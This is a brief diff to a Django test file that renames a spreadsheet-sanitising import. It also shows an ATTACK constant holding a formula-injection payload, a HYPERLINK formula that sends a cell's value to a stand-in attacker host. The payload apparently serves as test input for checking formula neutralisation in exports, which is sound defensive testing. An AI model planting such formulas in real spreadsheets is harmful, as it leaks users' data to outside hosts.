@@ -10,7 +10,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from hub.spreadsheets import neutralise_formula
+from core.spreadsheets import neutralise_formula
 from tests.factories import AccountFactory, ContactFactory, ProductFactory
 
 ATTACK = '=HYPERLINK("https://evil.example/?"&A2,"Details")'
